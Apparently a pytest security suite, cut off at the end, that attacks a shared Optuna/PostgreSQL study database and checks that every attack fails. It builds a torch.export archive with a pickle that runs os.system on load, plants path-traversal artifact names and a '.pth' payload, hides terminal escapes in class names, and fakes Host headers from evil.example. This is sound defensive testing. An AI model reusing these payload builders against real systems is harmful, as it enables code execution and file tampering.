"""The study database is shared, not trusted: each attack of the security review (issue 21), tried for real.

The attacker holds only the worker role that storage/initdb sets up for everyone who shares the study
database (or is handed a model directory). Each attack must have no effect: no file is written outside
the project's own folders, no code runs, no worker stops, and each command ends in success or one line.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import http.client
import io
import json
import os
import pickle
import secrets
import shutil
import struct
import subprocess
import sys
import tempfile
import threading
import time
import tracemalloc
import uuid
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import optuna
import psycopg
import pytest
from conftest import (
    FIXTURE,
    PG_ADMIN,
    REPO,
    cli_env,
    cli_here,
    created_study,
    error_line,
    pg_admin,
    run_cli,
    spawn_cli,
    tiny_spec,
    write_spec,
)
from helpers import free_port, wait_until
from numpy.lib import format as npy
from optuna.trial import FrozenTrial, TrialState, create_trial
from PIL import Image
from shared_trained import EnsembledStudy, EvaluatedStudy, LrPriorStudy, lr_prior_spec
from sqlalchemy.engine import make_url

from kmnist_tune.contract.records import (
    BUDGET_ATTR,
    ENSEMBLE_ATTR,
    MODEL_ATTR,
    PRIOR_ATTR,
    SPEC_ATTR,
    STOP_ATTR,
    TEST_ATTR,
    TrialRecord,
)
from kmnist_tune.errors import UserError
from kmnist_tune.masking import mask
from kmnist_tune.observe.dashboard import refused_write
from kmnist_tune.service.artifacts import TABLE, artifact_store, checkpoint_base
from kmnist_tune.service.storage import open_storage
from kmnist_tune.service.users import add_user, users_group
from kmnist_tune.training import data as data_files
from kmnist_tune.training.inputs import image_to_28

pytestmark = pytest.mark.postgres

ADMIN = make_url(PG_ADMIN)
VERSION_TABLES = ("alembic_version", "version_info")
WRITES = ("INSERT", "UPDATE", "DELETE", "TRUNCATE")
KEY = "k" * 32  # a signing key for the tests that use one


@dataclass
class Shared:
    """A study database set up as storage/initdb and `kmnist-tune schema` set it up: its roles and their
    passwords; `viewed` is a study with one trial and one artifact (what the dashboard shows)."""

    db: str
    owner: str
    roles: dict[str, tuple[str, str]]  # "worker" / "dashboard" / "alice" / "bob" -> (role, password)
    init_env: dict[str, str]
    viewed: dict[str, Any]

    def url(self, who: str) -> str:
        if who == "owner":
            return f"postgresql+psycopg://{self.owner}@{ADMIN.host}:{ADMIN.port}/{self.db}"
        role, password = self.roles[who]
        return f"postgresql+psycopg://{role}:{password}@{ADMIN.host}:{ADMIN.port}/{self.db}"

    def connect(self, who: str) -> psycopg.Connection[Any]:
        role, password = self.roles[who] if who != "owner" else (self.owner, "")
        return psycopg.connect(host=ADMIN.host, port=ADMIN.port, user=role, password=password, dbname=self.db, autocommit=True)

    @property
    def worker_url(self) -> str:
        return self.url("worker")

    def sql(self, query: str, params: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
        """One statement as the worker role (the attacker's own connection)."""
        with self.connect("worker") as conn:
            cur = conn.execute(query, params)
            return list(cur.fetchall()) if cur.description else []

    def storage(self) -> optuna.storages.RDBStorage:
        return optuna.storages.RDBStorage(self.worker_url, skip_table_creation=True)

    def create(self, tmp: Path, name: str, **over: Any) -> optuna.Study:
        """`study create` as the worker role (through the entry point's `main`, in this process)."""
        cli_here("study", "create", str(write_spec(tmp / f"{name}.yaml", tiny_spec(name, **over))), "--storage", self.worker_url)
        return optuna.load_study(study_name=name, storage=self.storage())

    def plant(self, artifact_id: str, data: bytes) -> None:
        """An artifact row written straight into the table, as anyone with the worker role can."""
        self.sql(f"INSERT INTO {TABLE} (artifact_id, chunk, data) VALUES (%s, 0, %s)", (artifact_id, data))

    def rows(self) -> set[str]:
        return {r[0] for r in self.sql(f"SELECT DISTINCT artifact_id FROM {TABLE}")}

    def init(self) -> subprocess.CompletedProcess[str]:
        """storage/initdb's script, run as its comment says (PGHOST/PGPORT: this machine's server)."""
        return subprocess.run(
            [str(REPO / "storage" / "initdb" / "10-kmnist-roles.sh")],
            env=self.init_env,
            capture_output=True,
            text=True,
            timeout=60,
        )


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shared]:
    admin = pg_admin()  # fails, never skips, when PostgreSQL is down
    tag = uuid.uuid4().hex[:10]
    db = f"kt_attack_{tag}"
    roles = {
        "worker": (f"kt_attacker_{tag}", secrets.token_hex(16)),
        "dashboard": (f"kt_attack_dash_{tag}", secrets.token_hex(16)),
        # Two people, each with a login of their own in the users group (`kmnist-tune db add-user`).
        "alice": (f"kt_alice_{tag}", secrets.token_hex(16)),
        "bob": (f"kt_bob_{tag}", secrets.token_hex(16)),
    }
    admin.execute(f'CREATE DATABASE "{db}"')
    init_env = {
        **os.environ,
        "PGHOST": str(ADMIN.host),
        "PGPORT": str(ADMIN.port),
        "POSTGRES_USER": str(ADMIN.username),
        "POSTGRES_DB": db,
        "POSTGRES_PASSWORD": secrets.token_hex(8),
        "KMNIST_TUNE_WORKER_USER": roles["worker"][0],
        "KMNIST_TUNE_WORKER_PASSWORD": roles["worker"][1],
        "KMNIST_TUNE_DASHBOARD_USER": roles["dashboard"][0],
        "KMNIST_TUNE_DASHBOARD_PASSWORD": roles["dashboard"][1],
    }
    try:
        s = Shared(db, str(ADMIN.username), roles, init_env, {})
        init = s.init()
        assert init.returncode == 0, init.stderr
        made = cli_here("schema", "--storage", s.url("owner"))  # the owner's tables, as compose's `schema` service makes them
        assert "ready" in made.stdout
        for who in ("alice", "bob"):
            add_user(s.url("owner"), *roles[who])
        # A study alice made with her own login, for bob's worker to work (before any test plants records).
        alices = write_spec(tmp_path_factory.mktemp("alice") / "alices.yaml", tiny_spec("alices", budget={"n_trials": 1}))
        cli_here("study", "create", str(alices), "--storage", s.url("alice"))
        # A study the worker role made, one finished trial and one artifact of it: what the dashboard shows.
        storage = open_storage(s.url("worker"))
        study = optuna.create_study(study_name="viewed", storage=storage, direction="maximize")
        trial = study.ask()
        content = b"the-artifact-" + secrets.token_bytes(8).hex().encode()
        path = tmp_path_factory.mktemp("artifact") / "note.txt"
        path.write_bytes(content)
        aid = optuna.artifacts.upload_artifact(
            artifact_store=artifact_store(storage), file_path=str(path), study_or_trial=trial, mimetype="text/plain"
        )
        study.tell(trial, 0.5)
        sid = storage.get_study_id_from_name("viewed")
        s.viewed = {"study_id": sid, "trial_id": study.trials[0]._trial_id, "artifact_id": aid, "content": content}
        yield s
    finally:
        admin.execute(f'DROP DATABASE IF EXISTS "{db}" WITH (FORCE)')
        for role in [r for r, _ in roles.values()] + [users_group(db)]:
            admin.execute(f'DROP ROLE IF EXISTS "{role}"')
        admin.close()


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# -- a name from the database becomes a local path ------------------------------------------------


@pytest.fixture(scope="module")
def poisoned_run(shared: Shared, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A study whose next trial is planted as a retry of a failed one whose checkpoint "artifacts" are
    named by absolute paths outside every folder of the project, and whose stored spec points W&B at
    another folder, mode and account; then one worker works it."""
    tmp = tmp_path_factory.mktemp("poisoned")
    outside = tmp / "outside"  # stands for site-packages: a folder that exists, where a `.pth` file runs code
    outside.mkdir()
    study = shared.create(tmp, "poisoned", budget={"n_trials": 1})
    payload, meta = b"import os; os.system('touch pwned')\n", b'{"format": 1}'
    planted = {"model": str(outside / "evil.pth"), "meta": str(outside / "site.json")}
    for artifact_id, data in ((planted["model"], payload), (planted["meta"], meta)):
        shared.plant(artifact_id, data)
    record = {"epoch": 0, "batch_size": 32, **planted, "sha256": {planted["model"]: sha(payload), planted["meta"]: sha(meta)}}
    # Trial 0 failed with that checkpoint; trial 1 is its retry, in Optuna's bookkeeping and in the user
    # attributes any client (or the dashboard) can set.
    study.add_trial(create_trial(state=TrialState.FAIL, user_attrs={"checkpoint": record}))
    study.add_trial(
        create_trial(
            state=TrialState.WAITING,
            user_attrs={"checkpoint": record, "retry_of": 0},
            system_attrs={"failed_trial": 0, "retry_history": [0]},
        )
    )
    spec = study.user_attrs[SPEC_ATTR]
    spec["tracking"] = {"wandb": {"mode": "online", "dir": str(tmp / "elsewhere"), "entity": "attacker", "project": "exfil"}}
    study.set_user_attr(SPEC_ATTR, spec)
    own = tmp / "own-wandb"
    proc = run_cli(
        "worker", "--study", "poisoned", "--storage", shared.worker_url, "--gpus", "none",
        env=cli_env(WANDB_MODE="offline", WANDB_DIR=str(own)), cwd=tmp,
    )  # fmt: skip
    trials = optuna.load_study(study_name="poisoned", storage=shared.storage()).trials
    return {"tmp": tmp, "outside": outside, "own": own, "proc": proc, "trials": trials}


def test_a_checkpoint_named_by_a_path_is_never_written_there(poisoned_run: dict[str, Any]) -> None:
    assert list(poisoned_run["outside"].iterdir()) == []  # nothing was written where the names pointed
    retry = poisoned_run["trials"][1]
    assert retry.state == TrialState.COMPLETE and TrialRecord.of(retry).resumed_from is None
    err = poisoned_run["proc"].stderr
    assert "not a checkpoint of the trials it retries" in err and "starting from scratch" in err and "Traceback" not in err


def test_the_stored_spec_does_not_choose_where_wandb_writes_or_logs(poisoned_run: dict[str, Any]) -> None:
    tmp, err = poisoned_run["tmp"], poisoned_run["proc"].stderr
    assert not (tmp / "elsewhere").exists()
    runs = list(poisoned_run["own"].rglob("offline-run-*"))  # the worker's own folder and mode (offline)
    assert runs and not list((poisoned_run["own"] / "wandb").glob("run-*"))  # no online run
    assert "asks for W&B entity attacker" in err and "asks W&B to write to" in err and "asks for W&B mode online" in err


def test_the_worker_settings_come_from_the_environment_it_is_given(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """wandb_target reads every one of its settings, the mode included, from the mapping passed in."""
    from kmnist_tune.contract.spec import WandbSpec
    from kmnist_tune.observe.tracking import wandb_target

    monkeypatch.setenv("WANDB_MODE", "online")  # this process's own, which must not be read
    given = {"WANDB_MODE": "disabled", "WANDB_DIR": str(tmp_path), "WANDB_ENTITY": "team", "WANDB_PROJECT": "mine"}
    target, notes = wandb_target(WandbSpec(mode="online", entity="attacker"), "study", given)
    assert (target.mode, target.dir, target.entity, target.project) == ("disabled", tmp_path, "team", "mine")
    assert any("asks for W&B mode online; this worker logs disabled" in n for n in notes)
    assert any("asks for W&B entity attacker" in n for n in notes)


def test_export_writes_only_the_model_files_and_only_into_the_destination(shared: Shared, tmp_path: Path) -> None:
    study = shared.create(tmp_path, "swapped")
    absolute = tmp_path / "absolute" / "written.txt"
    absolute.parent.mkdir()
    files = {"../../escaped.txt": b"written outside", "model.json": b"{}", str(absolute): b"x"}
    ids = {name: str(uuid.uuid4()) for name in files}
    for name, data in files.items():
        shared.plant(ids[name], data)
    study.set_user_attr(MODEL_ATTR, {"trial": 0, "at": "now", "artifacts": ids, "sha256": {n: sha(d) for n, d in files.items()}})
    parent = tmp_path / "a" / "b"
    parent.mkdir(parents=True)
    line = error_line(
        cli_here("export", "--study", "swapped", str(parent / "model"), "--storage", shared.worker_url, check=False)
    )
    assert "a model directory does not have" in line
    assert list(parent.iterdir()) == [] and not absolute.exists()  # nothing written, anywhere


def test_a_checkpoint_that_fails_its_check_is_deleted(shared: Shared, tmp_path: Path) -> None:
    """A retry's checkpoint whose bytes do not match the checksum its trial recorded: refused, and no
    byte of it stays on the worker's disk while the retry trains from scratch."""
    from kmnist_tune.contract.load import parse_spec
    from kmnist_tune.recipe.checkpoints import TrialCheckpoints

    study = shared.create(tmp_path, "mismatch")
    first = study.ask()
    base = checkpoint_base(first._trial_id, 0)
    store = artifact_store(shared.storage())
    for ext in ("pth", "json"):
        store.write(f"{base}.{ext}", io.BytesIO(b"tampered after it was recorded"))
    sums = {f"{base}.pth": sha(b"the weights it saved"), f"{base}.json": sha(b"{}")}
    first.set_user_attr(
        "checkpoint", {"epoch": 0, "batch_size": 32, "model": f"{base}.pth", "meta": f"{base}.json", "sha256": sums}
    )
    optuna.storages.RetryHeartbeatStaleTrialCallback()(study, study.tell(first, state=TrialState.FAIL))
    retry = study.ask()
    retry.set_user_attr("retry_of", first.number)  # as the worker records it
    lines: list[str] = []
    ckpts = TrialCheckpoints(retry, parse_spec(tiny_spec("mismatch")), lines.append)
    try:
        assert ckpts.resume_point({"arch": "resnet18", "stem": "imagenet", "epochs": 1}) is None
        assert "does not match the checksum" in lines[0] and "starting from scratch" in lines[0]
        assert list(Path(ckpts._tmp.name).iterdir()) == []  # the download is gone while the retry trains
    finally:
        ckpts.close()


# -- signatures -----------------------------------------------------------------------------------


def test_with_a_signing_key_an_unsigned_kept_model_is_refused(shared: Shared, tmp_path: Path) -> None:
    from kmnist_tune.signing import Signer
    from kmnist_tune.training.inference import _canonical

    study = shared.create(tmp_path, "unsigned")
    folder = crafted_model_dir(tmp_path / "kept", tmp_path / "pwned", classes=[str(i) for i in range(10)])
    card = json.loads((folder / "model.json").read_text())
    card["source"] = {"study": "unsigned", "trial": 0}
    card["signature"] = Signer(KEY).sign("model-card", _canonical(card))
    (folder / "model.json").write_text(json.dumps(card))
    good = {p.name: p.read_bytes() for p in folder.iterdir()}
    ids = {name: str(uuid.uuid4()) for name in good}
    for name, data in good.items():
        shared.plant(ids[name], data)
    record = {"trial": 0, "at": "now", "artifacts": ids, "sha256": {n: sha(d) for n, d in good.items()}}
    study.set_user_attr(MODEL_ATTR, record)
    env = cli_env(KMNIST_TUNE_SIGNING_KEY=KEY)
    args = ("export", "--study", "unsigned", str(tmp_path / "u"), "--storage", shared.worker_url)
    assert "unsigned or not signed" in error_line(cli_here(*args, env=env, check=False))
    # Signed with another key: refused too.
    study.set_user_attr(MODEL_ATTR, {**record, "signature": Signer("o" * 32).sign_record(MODEL_ATTR, "unsigned", record)})
    assert "unsigned or not signed" in error_line(cli_here(*args, env=env, check=False))
    # Signed with the team's key: fetched. Without the key, today's behaviour (the checksums alone).
    study.set_user_attr(MODEL_ATTR, {**record, "signature": Signer(KEY).sign_record(MODEL_ATTR, "unsigned", record)})
    cli_here(*args, env=env)
    assert (tmp_path / "u" / "classes.csv").read_bytes() == good["classes.csv"]
    cli_here("export", "--study", "unsigned", str(tmp_path / "plain"), "--storage", shared.worker_url)


def test_with_a_signing_key_a_checkpoint_resumes_only_when_signed_by_it(
    shared: Shared, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A worker's checkpoint round trip, signed; one an attacker uploaded with the right checksum but no
    signature is refused and the retry starts from scratch."""
    from kmnist_tune.contract.load import parse_spec
    from kmnist_tune.recipe.checkpoints import TrialCheckpoints

    monkeypatch.setenv("KMNIST_TUNE_SIGNING_KEY", KEY)
    spec_dict = tiny_spec("signed", budget={"n_trials": 4})
    study = shared.create(tmp_path, "signed", budget={"n_trials": 4})
    spec = parse_spec(spec_dict)
    params = {"arch": "resnet18", "stem": "imagenet", "epochs": 1}
    info = {
        "format": 1,
        "epoch": 0,
        "n_epochs": 1,
        "batch_size": 32,
        "loader_epoch": 1,
        "rng": {},
        "seed": 0,
        "arch": "resnet18",
        "stem": "imagenet",
    }

    def retry_of(trial: optuna.Trial) -> tuple[list[str], Any]:
        frozen = study.tell(trial, state=TrialState.FAIL)
        optuna.storages.RetryHeartbeatStaleTrialCallback()(study, frozen)
        retry = study.ask()
        lines: list[str] = []
        ck = TrialCheckpoints(retry, spec, lines.append)
        try:
            return lines, ck.resume_point(params)
        finally:
            ck.close()
            study.tell(retry, state=TrialState.FAIL)

    first = study.ask()
    _checkpoint(study, first, params)
    lines, resume = retry_of(first)
    assert resume is not None and resume.epoch == 0 and not lines  # signed by this key: resumed
    # The attacker's own checkpoint under the right name, with a matching checksum and no signature.
    second = study.ask()
    base = checkpoint_base(second._trial_id, 0)
    store = artifact_store(shared.storage())
    blob = json.dumps(info).encode()
    for ext, data in (("pth", b"attacker weights"), ("json", blob)):
        store.write(f"{base}.{ext}", io.BytesIO(data))
    sums = {f"{base}.pth": sha(b"attacker weights"), f"{base}.json": sha(blob)}
    second.set_user_attr(
        "checkpoint", {"epoch": 0, "batch_size": 32, "model": f"{base}.pth", "meta": f"{base}.json", "sha256": sums}
    )
    lines, resume = retry_of(second)
    assert (
        resume is None
        and "not signed with this worker's KMNIST_TUNE_SIGNING_KEY" in lines[0]
        and "starting from scratch" in lines[0]
    )


# -- a model file runs code -----------------------------------------------------------------------


class _Payload:
    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.marker}",))


def _pickled_pt2(path: Path, marker: Path) -> None:
    """A torch.export archive whose weight payloads are marked `use_pickle` and hold a pickle that runs a
    shell command: what `torch.export.load` runs as it loads."""
    import torch
    from torch import nn

    program = torch.export.export(nn.Linear(4, 2).eval(), (torch.zeros(1, 4),))
    buf = io.BytesIO()
    torch.export.save(program, buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("model_weights_config.json"):
                config = json.loads(data)
                for entry in config["config"].values():
                    entry["use_pickle"] = True
                data = json.dumps(config).encode()
            elif "/data/weights/weight_" in info.filename:
                data = pickle.dumps(_Payload(marker))
            dst.writestr(info.filename, data)


def crafted_model_dir(folder: Path, marker: Path, *, classes: list[str] | None = None) -> Path:
    """A model directory as `export` writes it (real resnet18 weights, untrained), with a model.pt2 that
    runs a command when PyTorch loads it, and class names carrying terminal escapes."""
    from kmnist_tune.training.inference import save_weights
    from kmnist_tune.training.model import build_model

    folder.mkdir(parents=True)
    save_weights(build_model("resnet18", 10, "imagenet", 0.5), 0.19, 0.35, folder / "weights.safetensors")
    _pickled_pt2(folder / "model.pt2", marker)
    chars = classes or [f"\x1b]0;owned\x07\x1b[2Jc{i}" for i in range(10)]
    (folder / "classes.csv").write_text(
        "index,codepoint,char\n" + "".join(f"{i},U+0000,{c}\n" for i, c in enumerate(chars)), encoding="utf-8"
    )
    card = {
        "format": "kmnist-tune model directory",
        "model": {
            "weights": "weights.safetensors",
            "program": "model.pt2",
            "constructor": {"arch": "resnet18", "stem": "imagenet", "n_classes": 10, "dropout": 0.5},
            "normalisation": {"mean": 0.19, "std": 0.35},
        },
        "metrics": {"metric": "accuracy"},
        "files": {n: sha((folder / n).read_bytes()) for n in ("weights.safetensors", "model.pt2", "classes.csv")},
    }
    (folder / "model.json").write_text(json.dumps(card), encoding="utf-8")
    return folder


def test_predict_runs_no_code_from_a_model_directory_and_prints_no_escapes(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    folder = crafted_model_dir(tmp_path / "handed-over", marker)
    proc = run_cli("predict", str(folder), str(FIXTURE / "kmnist-test-imgs.npz"), "--top", "2")
    assert not marker.exists()  # model.pt2 was never unpickled
    assert len(proc.stdout.splitlines()) >= 300 and "c" in proc.stdout
    assert "\x1b" not in proc.stdout + proc.stderr and "\x07" not in proc.stdout
    # The same archive does run its command in PyTorch's own loader: the attack is real.
    subprocess.run(
        [sys.executable, "-c", f"import torch; torch.export.load({str(folder / 'model.pt2')!r})"],
        capture_output=True,
        timeout=120,
    )
    assert marker.exists()


def test_with_a_signing_key_predict_refuses_an_unsigned_model_directory(tmp_path: Path) -> None:
    folder = crafted_model_dir(tmp_path / "m", tmp_path / "pwned", classes=[str(i) for i in range(10)])
    args = ("predict", str(folder), str(FIXTURE / "kmnist-test-imgs.npz"))
    assert "unsigned or not signed" in error_line(cli_here(*args, env=cli_env(KMNIST_TUNE_SIGNING_KEY=KEY), check=False))
    from kmnist_tune.signing import Signer

    card = json.loads((folder / "model.json").read_text())
    import kmnist_tune.training.inference as inference

    card["signature"] = Signer(KEY).sign("model-card", inference._canonical(card))
    (folder / "model.json").write_text(json.dumps(card))
    cli_here(*args, env=cli_env(KMNIST_TUNE_SIGNING_KEY=KEY))


# -- one statement stops everyone: least privilege ---------------------------------------------------


def refused_sql(
    conn: psycopg.Connection[Any], sql: str, error: type[Exception] = psycopg.errors.InsufficientPrivilege
) -> BaseException:
    with pytest.raises(error) as refused:
        conn.execute(sql)
        pytest.fail(f"allowed: {sql}")
    return refused.value


VERSION_WRITES = (
    "UPDATE version_info SET library_version = '99.0.0', schema_version = 99",
    "UPDATE alembic_version SET version_num = 'v99'",
    "DELETE FROM version_info",
    "DELETE FROM alembic_version",
    "TRUNCATE version_info",
    "TRUNCATE alembic_version",
    "INSERT INTO version_info (version_info_id, schema_version, library_version) VALUES (2, 99, '99.0.0')",
    "INSERT INTO alembic_version (version_num) VALUES ('v99')",
)


def version_write_grantees(s: Shared) -> list[tuple[str, str, str]]:
    """(role or PUBLIC, table, privilege) of every write on the version tables but the owner's."""
    with s.connect("owner") as conn:
        rows = conn.execute(
            "SELECT CASE WHEN a.grantee = 0 THEN 'PUBLIC' ELSE pg_get_userbyid(a.grantee) END, c.relname, a.privilege_type"
            " FROM pg_class c CROSS JOIN LATERAL aclexplode(c.relacl) a"
            " WHERE c.relname = ANY(%s) AND pg_table_is_visible(c.oid)"
            " AND a.privilege_type = ANY(%s) AND a.grantee <> c.relowner",
            (list(VERSION_TABLES), list(WRITES)),
        ).fetchall()
    return [tuple(r) for r in rows]


def test_the_worker_role_cannot_write_optunas_version_tables_and_still_works_studies(
    shared: Shared, poisoned_run: dict[str, Any]
) -> None:
    before = {}
    with shared.connect("owner") as conn:
        for t in VERSION_TABLES:
            before[t] = conn.execute(f"SELECT * FROM {t}").fetchall()
    for attempt in ("after `schema`", "after the init script ran again"):  # a re-run re-grants ALL TABLES: it must revoke too
        with shared.connect("worker") as w:
            for sql in VERSION_WRITES:
                refused_sql(w, sql)
            for t in VERSION_TABLES:  # Optuna reads them on every open
                assert w.execute(f"SELECT * FROM {t}").fetchall() == before[t], attempt
        assert version_write_grantees(shared) == [], attempt
        if attempt.startswith("after `schema`"):
            again = shared.init()
            assert again.returncode == 0, again.stderr

    # The worker role still creates a study (the storage opened with create=True) and works it: the
    # poisoned run's worker, a real `kmnist-tune worker` as that role, finished its trial.
    assert poisoned_run["trials"][1].state == optuna.trial.TrialState.COMPLETE
    with shared.connect("owner") as conn:  # and nothing it did touched them
        assert {t: conn.execute(f"SELECT * FROM {t}").fetchall() for t in VERSION_TABLES} == before


def test_the_dashboard_role_reads_and_cannot_write(shared: Shared) -> None:
    sid = shared.viewed["study_id"]
    with shared.connect("dashboard") as d:
        for table in ("studies", "trials", "trial_values", "version_info", "alembic_version", TABLE, "kmnist_tune_claims"):
            d.execute(f"SELECT count(*) FROM {table}").fetchone()
        assert d.execute("SELECT study_name FROM studies WHERE study_id = %s", (sid,)).fetchone() == ("viewed",)
        writes = (
            "INSERT INTO studies (study_name) VALUES ('by-the-dashboard')",
            f"UPDATE studies SET study_name = 'renamed' WHERE study_id = {sid}",
            f"DELETE FROM studies WHERE study_id = {sid}",
            "UPDATE trial_user_attributes SET value_json = '1'",
            "INSERT INTO trial_user_attributes (trial_id, key, value_json) SELECT trial_id, 'x', '1' FROM trials",
            f"DELETE FROM {TABLE}",
            "INSERT INTO kmnist_tune_claims (study_id) VALUES (1)",
            "UPDATE version_info SET library_version = '99.0.0'",
        )
        # Its transactions are read-only by default (a second guard)...  (the dashboard answers either
        # refusal with a 403: refused_write)
        for sql in writes:
            assert refused_write(refused_sql(d, sql, psycopg.errors.ReadOnlySqlTransaction)) == "read-only transaction"
        # ... which a client may turn off: the grants are the boundary.
        d.execute("SET default_transaction_read_only = off")
        for sql in (*writes, "TRUNCATE trials", "CREATE TABLE sneaky (id int)", "CREATE TEMP TABLE sneaky (id int)"):
            assert refused_write(refused_sql(d, sql)) == "permission denied"
        refused_sql(d, "SELECT nextval(pg_get_serial_sequence('studies', 'study_id'))")


# -- the dashboard is open to the host ------------------------------------------------------------------------


@dataclass
class Reply:
    status: int
    headers: list[tuple[str, str]]
    body: bytes


def ask(port: int, path: str, host: str | None, method: str = "GET", body: Any = None, **headers: str) -> Reply:
    """One request to 127.0.0.1:port with exactly this Host header (None: none at all). Every reply is
    checked for a CORS header: the dashboard must send none, to anyone."""
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        if host is not None:
            conn.putheader("Host", host)
        data = json.dumps(body).encode() if body is not None else b""
        if body is not None:
            conn.putheader("Content-Type", "application/json")
        conn.putheader("Content-Length", str(len(data)))
        for k, v in headers.items():
            conn.putheader(k.replace("_", "-"), v)
        conn.endheaders(data)
        resp = conn.getresponse()
        reply = Reply(resp.status, resp.getheaders(), resp.read())
    finally:
        conn.close()
    cors = [(k, v) for k, v in reply.headers if k.lower().startswith("access-control-")]
    assert not cors, f"{method} {path} (Host {host}) answered with CORS headers {cors}"
    return reply


@pytest.fixture(scope="module")
def dashboard_log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """What the dashboard below says on stderr (its server's log), as it says it."""
    return tmp_path_factory.mktemp("dashboard") / "stderr.log"


@pytest.fixture(scope="module")
def dashboard(shared: Shared, dashboard_log: Path) -> Iterator[int]:
    """`kmnist-tune dashboard` on loopback as the dashboard role, two more names allowed (flag and env)."""
    port = free_port()
    env = cli_env(KMNIST_TUNE_STORAGE=shared.url("dashboard"), KMNIST_TUNE_DASHBOARD_ALLOW_HOSTS=" proxy.example:8443 ,")
    argv = [sys.executable, "-m", "kmnist_tune", "dashboard", "--port", str(port), "--allow-host", "dash.example"]
    with dashboard_log.open("w") as log:
        proc = subprocess.Popen(argv, env=env, stdout=subprocess.DEVNULL, stderr=log, text=True)

    def answers() -> bool:
        try:
            return ask(port, "/api/studies", f"127.0.0.1:{port}").status == 200
        except OSError:
            return False

    try:
        wait_until(answers, 90, "the dashboard to answer on loopback", [proc])
        yield port
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        assert shared.roles["dashboard"][1] not in dashboard_log.read_text()  # its password: never printed


def studies(reply: Reply) -> list[str]:
    assert reply.status == 200, (reply.status, reply.body[:300])
    return [s["study_name"] for s in json.loads(reply.body)["study_summaries"]]


def test_the_dashboard_serves_the_studies_with_the_read_only_role_and_its_writes_fail(
    shared: Shared, dashboard: int, dashboard_log: Path
) -> None:
    here = f"127.0.0.1:{dashboard}"
    sid, tid = shared.viewed["study_id"], shared.viewed["trial_id"]
    assert "viewed" in studies(ask(dashboard, "/api/studies", here))
    detail = ask(dashboard, f"/api/studies/{sid}", here)
    assert detail.status == 200 and [t["trial_id"] for t in json.loads(detail.body)["trials"]] == [tid]
    # optuna-dashboard's own write endpoints, from its own origin: they reach the database, which refuses
    # (its role's transactions are read-only, and it has no grant to write). Each is a 403 with a reason its
    # UI shows, and one line in the server's log, not a 500 with a traceback.
    same_origin = {"Origin": f"http://{here}"}
    said = dashboard_log.read_text()
    writes = [
        ("DELETE", f"/api/studies/{sid}", {}, same_origin),
        ("POST", f"/api/studies/{sid}/rename", {"study_name": "gone"}, {}),
        ("PUT", f"/api/studies/{sid}/note", {"version": 1, "body": "mine"}, same_origin),
        ("PUT", f"/api/studies/{sid}/{tid}/note", {"version": 1, "body": "mine"}, same_origin),
    ]
    for method, path, body, headers in writes:
        r = ask(dashboard, path, here, method, body, **headers)
        assert r.status == 403 and len(r.body) < 200, (method, path, r.status, r.body[:300])
        assert "may only read" in json.loads(r.body)["reason"]
    logged = dashboard_log.read_text()[len(said) :]
    lines = logged.splitlines()
    assert "Traceback" not in logged and len(lines) == len(writes), logged
    for (method, path, *_), line in zip(writes, lines, strict=True):
        assert line.startswith(f"kmnist-tune dashboard: {method} {path} refused by the database ("), line
    study = optuna.load_study(study_name="viewed", storage=shared.url("owner"))
    assert "owned" not in study.trials[0].user_attrs and study._study_id == sid
    with shared.connect("owner") as conn:  # the artifact that a delete would have removed first
        assert conn.execute(
            f"SELECT count(*) FROM {TABLE} WHERE artifact_id = %s", (shared.viewed["artifact_id"],)
        ).fetchone() == (1,)


def test_the_dashboard_answers_only_its_own_host_names_and_sends_no_cors_header(shared: Shared, dashboard: int) -> None:
    port, v = dashboard, shared.viewed
    artifact = f"/artifacts/{v['study_id']}/{v['trial_id']}/{v['artifact_id']}"
    # A page at evil.example that rebinds its name to 127.0.0.1 sends its own name as Host: refused.
    for host in (f"evil.example:{port}", "evil.example", f"127.0.0.1.evil.example:{port}", f"localhost:{port + 1}", "", None):
        for path in ("/api/studies", artifact, "/dashboard"):
            r = ask(port, path, host)
            assert r.status == 403 and dict(r.headers)["Content-Type"].startswith("text/plain"), (host, path, r.status)
            assert b"viewed" not in r.body and v["content"] not in r.body and len(r.body) < 300, r.body
    assert b"--allow-host" in ask(port, "/api/studies", f"evil.example:{port}").body
    # The names it is known by: the bound address and loopback's on its port, --allow-host's bare name on
    # any port, the environment's NAME:PORT on that port only.
    for host in (
        f"127.0.0.1:{port}",
        f"localhost:{port}",
        f"[::1]:{port}",
        f"LocalHost:{port}",
        "dash.example:1234",
        "proxy.example:8443",
    ):
        assert "viewed" in studies(ask(port, "/api/studies", host)), host
    assert ask(port, "/api/studies", "proxy.example:8444").status == 403
    # The artifact (optuna-dashboard sends it with Access-Control-Allow-Origin: *; `ask` checks none came).
    got = ask(port, artifact, f"localhost:{port}")
    assert got.status == 200 and got.body == v["content"]
    # A write that a page of another origin sends to a right Host (a form: CSRF) stops before the database.
    for origin in ("http://evil.example", "null", f"http://127.0.0.1:{port}.evil.example"):
        r = ask(port, f"/api/studies/{v['study_id']}", f"127.0.0.1:{port}", "DELETE", {}, Origin=origin)
        assert r.status == 403 and b"origin" in r.body, origin
    # A bad --allow-host: one line, before anything is opened or bound.
    line = error_line(
        cli_here("dashboard", "--allow-host", "http://evil.example/", "--storage", shared.url("dashboard"), check=False)
    )
    assert "--allow-host 'http://evil.example/' is not a host name" in line


# -- printed text carries terminal escapes ---------------------------------------------------------


def test_text_from_the_database_is_printed_without_control_characters(shared: Shared, tmp_path: Path) -> None:
    study = shared.create(tmp_path, "escapes")
